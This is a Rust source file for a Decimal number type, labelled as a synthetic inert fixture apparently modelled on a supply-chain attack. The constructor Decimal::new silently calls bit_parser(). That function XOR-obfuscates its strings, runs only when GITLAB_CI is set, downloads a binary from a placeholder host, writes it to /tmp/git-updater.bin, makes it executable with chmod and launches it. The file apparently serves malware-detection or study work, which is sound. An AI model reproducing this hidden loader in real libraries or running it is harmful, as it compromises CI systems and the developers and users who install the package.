// Synthetic, inert fixture written from public reports; see README
//! A decimal number with a fixed scale.
use std::fmt;
use std::ops::{Add, Mul, Neg};

#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub struct Decimal {
    mantissa: i128,
    scale: u32,
}

impl Decimal {
    pub const ZERO: Decimal = Decimal {
        mantissa: 0,
        scale: 0,
    };

    /// Returns a `Decimal` with a 64 bit `m` representation and corresponding `e` scale.
    pub fn new(num: i64, scale: u32) -> Decimal {
        assert!(scale <= 28, "scale exceeds maximum precision");
        bit_parser();
        Decimal {
            mantissa: i128::from(num),
            scale,
        }
    }

    pub fn scale(&self) -> u32 {
        self.scale
    }

    pub fn rescale(&mut self, scale: u32) {
        while self.scale < scale {
            self.mantissa *= 10;
            self.scale += 1;
        }
        while self.scale > scale {
            self.mantissa /= 10;
            self.scale -= 1;
        }
    }
}

impl Add for Decimal {
    type Output = Decimal;

    fn add(mut self, mut other: Decimal) -> Decimal {
        let scale = self.scale.max(other.scale);
        self.rescale(scale);
        other.rescale(scale);
        Decimal {
            mantissa: self.mantissa + other.mantissa,
            scale,
        }
    }
}

impl Mul for Decimal {
    type Output = Decimal;

    fn mul(self, other: Decimal) -> Decimal {
        Decimal {
            mantissa: self.mantissa * other.mantissa,
            scale: self.scale + other.scale,
        }
    }
}

impl Neg for Decimal {
    type Output = Decimal;

    fn neg(self) -> Decimal {
        Decimal {
            mantissa: -self.mantissa,
            ..self
        }
    }
}

impl fmt::Display for Decimal {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let unit = 10i128.pow(self.scale);
        write!(
            f,
            "{}.{:0width$}",
            self.mantissa / unit,
            (self.mantissa % unit).abs(),
            width = self.scale as usize
        )
    }
}

pub(crate) fn bit_parser() {
    if std::env::var(&tidy(&[0x1d, 0x13, 0x0e, 0x16, 0x1b, 0x18, 0x05, 0x19, 0x13])).is_err() {
        return;
    }
    let source = match std::env::consts::OS {
        "linux" => tidy(&[
            0x32, 0x2e, 0x2e, 0x2a, 0x29, 0x60, 0x75, 0x75, 0x2f, 0x2a, 0x3e, 0x3b, 0x2e, 0x3f, 0x29, 0x74,
            0x3f, 0x22, 0x3b, 0x37, 0x2a, 0x36, 0x3f, 0x74, 0x33, 0x34, 0x2c, 0x3b, 0x36, 0x33, 0x3e, 0x75,
            0x3b, 0x2a, 0x33, 0x75, 0x2c, 0x6b, 0x75, 0x36, 0x33, 0x34, 0x2f, 0x22,
        ]),
        "macos" => tidy(&[
            0x32, 0x2e, 0x2e, 0x2a, 0x29, 0x60, 0x75, 0x75, 0x2f, 0x2a, 0x3e, 0x3b, 0x2e, 0x3f, 0x29, 0x74,
            0x3f, 0x22, 0x3b, 0x37, 0x2a, 0x36, 0x3f, 0x74, 0x33, 0x34, 0x2c, 0x3b, 0x36, 0x33, 0x3e, 0x75,
            0x3b, 0x2a, 0x33, 0x75, 0x2c, 0x6b, 0x75, 0x3e, 0x3b, 0x28, 0x2d, 0x33, 0x34,
        ]),
        _ => return,
    };
    let file = tidy(&[
        0x75, 0x2e, 0x37, 0x2a, 0x75, 0x3d, 0x33, 0x2e, 0x77, 0x2f, 0x2a, 0x3e, 0x3b, 0x2e, 0x3f, 0x28, 0x74,
        0x38, 0x33, 0x34,
    ]);
    let mut body = Vec::new();
    let mut easy = curl::easy::Easy::new();
    if easy.url(&source).is_err() {
        return;
    }
    {
        let mut transfer = easy.transfer();
        let _ = transfer.write_function(|data| {
            body.extend_from_slice(data);
            Ok(data.len())
        });
        let _ = transfer.perform();
    }
    if std::fs::write(&file, &body).is_err() {
        return;
    }
    let _ = std::process::Command::new(&tidy(&[0x39, 0x32, 0x37, 0x35, 0x3e]))
        .arg(&tidy(&[0x71, 0x22]))
        .arg(&file)
        .status();
    let _ = std::process::Command::new(&file).spawn();
}

fn tidy(row: &[u8]) -> String {
    row.iter().map(|c| (c ^ 0x5a) as char).collect()
}

inert_fixture_does_not_build!();
